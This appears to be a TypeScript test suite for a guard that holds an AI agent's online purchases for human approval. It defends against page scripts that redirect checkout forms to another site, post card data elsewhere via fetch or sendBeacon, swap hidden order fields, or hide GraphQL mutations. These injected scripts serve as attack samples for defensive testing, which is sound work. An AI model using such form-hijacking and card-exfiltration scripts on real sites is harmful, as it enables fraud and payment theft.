import { createServer, type IncomingMessage, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { runAction } from 'holdpoint'
import { type Desk, expect, openAgent, test } from './support/stage.ts'

/** Everything that reached a shop, or the attacker's server beside it. */
interface Hits {
  readonly server: Server
  readonly url: string
  readonly posts: { readonly url: string; readonly body: string }[]
}

const CHECKOUT = `<!doctype html><meta charset="utf-8"><title>Checkout</title><h1>Checkout</h1>
<table><tr><td>Printer paper</td><td>1</td><td>12.00 EUR</td></tr></table><p>Total to pay: 12.00 EUR</p>
<form id="f" method="post" action="/orders/place"><input type="hidden" name="sku" value="paper">
<label>Name <input name="name" value="Ada"></label><label>Address <input name="address" value="1 Good St"></label>
<label>Card number <input name="cardnumber" autocomplete="cc-number" value="4242424242424242"></label>
<button id="b">Place order</button></form>`

let shop: Hits
let other: Hits
test.beforeAll(async () => {
  shop = await serve()
  other = await serve()
})
test.afterAll(() => {
  shop.server.close()
  other.server.close()
})
test.beforeEach(() => {
  shop.posts.length = 0
  other.posts.length = 0
})

async function serve(): Promise<Hits> {
  const posts: { url: string; body: string }[] = []
  const server = createServer(async (request, response) => {
    const body = await textOf(request)
    const ordered = request.method === 'POST' || request.url?.startsWith('/orders/place')
    if (ordered) posts.push({ url: request.url ?? '', body })
    response.setHeader('access-control-allow-origin', '*')
    response.setHeader('access-control-allow-headers', '*')
    if (request.url === '/leads-on' || body.includes('leads=on')) {
      response.writeHead(303, { location: `${other.url}/orders/place?sku=tv` }).end()
      return
    }
    response.setHeader('content-type', 'text/html; charset=utf-8')
    response.end(ordered ? '<h1>Thank you, order 7</h1>' : CHECKOUT)
  }).listen(0, '127.0.0.1')
  await new Promise((resolve) => server.once('listening', resolve))
  return { server, posts, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}` }
}

async function textOf(request: IncomingMessage): Promise<string> {
  const chunks: Buffer[] = []
  for await (const chunk of request) chunks.push(chunk as Buffer)
  return Buffer.concat(chunks).toString()
}

/** Where the attacker listens: another site, not only another port. */
const elsewhere = () => other.url.replace('127.0.0.1', 'localhost')

async function openCheckout(desk: Desk, worker: Parameters<typeof openAgent>[0]) {
  const { page, guarded } = await openAgent(worker, desk.holdpoint)
  await page.goto(shop.url)
  return { page, guarded }
}

test.describe('a body cannot pass as a read:', () => {
  const BODIES: readonly [string, object][] = [
    ['a member called query', { query: 'x', sku: 'tv', card: { cardnumber: '4242424242424242' } }],
    ['one in a list', [{ query: 'a', sku: 'tv' }]],
    [
      'a mutation behind a block text',
      {
        operationName: 'M',
        query: 'query Q{a(s:""" \\""" """)} mutation M{placeOrder} query R{a(s:"""x""")}',
      },
    ],
    ['a mutation after many spaces', { query: `{a}${' '.repeat(20_001)}mutation M{placeOrder}` }],
  ]
  for (const [name, body] of BODIES) {
    test(`${name} is held`, async ({ desk, worker }) => {
      const { page, guarded } = await openCheckout(desk, worker.browser)
      const acted = page
        .evaluate(
          (json) =>
            fetch('/orders/place', {
              method: 'POST',
              headers: { 'content-type': 'application/json' },
              body: json,
            }).then(() => undefined),
          JSON.stringify(body),
        )
        .catch(() => undefined)
      const request = await desk.nextHeld()
      expect(shop.posts).toEqual([])
      await desk.reject(request.id)
      await acted
      expect(shop.posts).toEqual([])
      await guarded.close()
    })
  }
})

test.describe('what was approved is what leaves:', () => {
  const SCRIPTS: readonly [string, (elsewhere: string) => string][] = [
    [
      'a form sent to another site',
      (to) => `b.addEventListener('mousedown',()=>{f.action='${to}/orders/place'})`,
    ],
    [
      'a fetch to another site',
      (to) =>
        `f.addEventListener('submit',e=>{e.preventDefault();fetch('${to}/orders/place',{method:'POST',mode:'no-cors',body:new URLSearchParams(new FormData(f))})})`,
    ],
    [
      'an address of another site that buys',
      (to) =>
        `f.addEventListener('submit',e=>{e.preventDefault();location.href='${to}/orders/place?sku=tv'})`,
    ],
    [
      'another order in JSON',
      () =>
        `f.addEventListener('submit',e=>{e.preventDefault();fetch('/orders/place',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({sku:'tv',quantity:50,name:'Mallory',address:'9 Evil Rd',cardnumber:'4242424242424242'})})})`,
    ],
    [
      'a body that cannot be read',
      () => `b.addEventListener('mousedown',()=>{f.enctype='text/plain';f.sku.value='tv'})`,
    ],
    [
      'a hidden field swapped as the button is pressed',
      () => `b.addEventListener('mousedown',()=>{f.sku.value='tv'})`,
    ],
  ]
  for (const [name, script] of SCRIPTS) {
    test(`${name} is refused`, async ({ desk, worker }) => {
      const { page, guarded } = await openCheckout(desk, worker.browser)
      await page.evaluate((source) => {
        const tag = document.createElement('script')
        tag.textContent = `{const f=document.getElementById('f'),b=document.getElementById('b');${source}}`
        document.body.append(tag)
      }, script(elsewhere()))
      const acted = runAction(guarded, {}, () => page.locator('#b').click())
      const request = await desk.nextHeld()
      expect(request.terms).toMatchObject({ amount: { amountMinor: 1_200 } })
      await desk.approve(request.id)
      expect((await acted).status).toBe('drifted')
      expect([...shop.posts, ...other.posts]).toEqual([])
      await guarded.close()
    })
  }

  test('a hidden field swapped while it is held is refused', async ({ desk, worker }) => {
    const { page, guarded } = await openCheckout(desk, worker.browser)
    const acted = runAction(guarded, {}, () => page.locator('#b').click())
    const request = await desk.nextHeld()
    await page.evaluate(() => {
      const field = document.querySelector<HTMLInputElement>('[name=sku]')
      if (field !== null) field.value = 'tv'
    })
    await desk.approve(request.id)
    expect((await acted).status).toBe('drifted')
    expect(shop.posts).toEqual([])
    await guarded.close()
  })

  test('another address of the same site is another question', async ({ desk, worker }) => {
    const { page, guarded } = await openCheckout(desk, worker.browser)
    await page.evaluate(() => {
      const form = document.querySelector('form')
      document.getElementById('b')?.addEventListener('mousedown', () => {
        if (form !== null) form.action = '/orders/place-tv'
      })
    })
    const acted = runAction(guarded, {}, () => page.locator('#b').click())
    const first = await desk.nextHeld()
    await desk.approve(first.id)
    const second = await desk.nextHeld()
    expect(shop.posts).toEqual([])
    await desk.reject(second.id)
    expect((await acted).status).toBe('rejected')
    expect(shop.posts).toEqual([])
    await guarded.close()
  })
})

test('an order that left under a harmless name is never told as "nothing was sent"', async ({
  desk,
  worker,
}) => {
  const { page, guarded } = await openCheckout(desk, worker.browser)
  await page.evaluate(() => {
    const form = document.querySelector('form')
    form?.addEventListener('submit', (event) => {
      event.preventDefault()
      void fetch('/api/cart', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: '{"step":"final"}',
      })
    })
  })
  const acted = runAction(guarded, {}, () => page.locator('#b').click())
  const request = await desk.nextHeld()
  await desk.approve(request.id)
  const outcome = await acted
  expect(outcome.status).toBe('unverified')
  expect(outcome.forModel).toContain('do not repeat it')
  expect(shop.posts).toHaveLength(1)
  await guarded.close()
})

test('an answer that leads to an address that buys elsewhere is asked about', async ({
  desk,
  worker,
}) => {
  const { page, guarded } = await openCheckout(desk, worker.browser)
  await page.evaluate(() => {
    const field = document.createElement('input')
    field.type = 'hidden'
    field.name = 'leads'
    field.value = 'on'
    document.querySelector('form')?.append(field)
  })
  const acted = runAction(guarded, {}, () => page.locator('#b').click())
  const first = await desk.nextHeld()
  await desk.approve(first.id)
  const second = await desk.nextHeld()
  expect(shop.posts).toHaveLength(1)
  expect(other.posts).toEqual([])
  await desk.reject(second.id)
  await acted
  expect(other.posts).toEqual([])
  await guarded.close()
})

test('a beacon that carries a card to the orders is held like a fetch', async ({
  desk,
  worker,
}) => {
  const { page, guarded } = await openCheckout(desk, worker.browser)
  const acted = page
    .evaluate(() => {
      const body = new URLSearchParams({ sku: 'tv', cardnumber: '4242424242424242', total: '999' })
      navigator.sendBeacon('/orders', body)
    })
    .catch(() => undefined)
  const request = await desk.nextHeld()
  await desk.reject(request.id)
  await acted
  expect(shop.posts).toEqual([])
  await guarded.close()
})
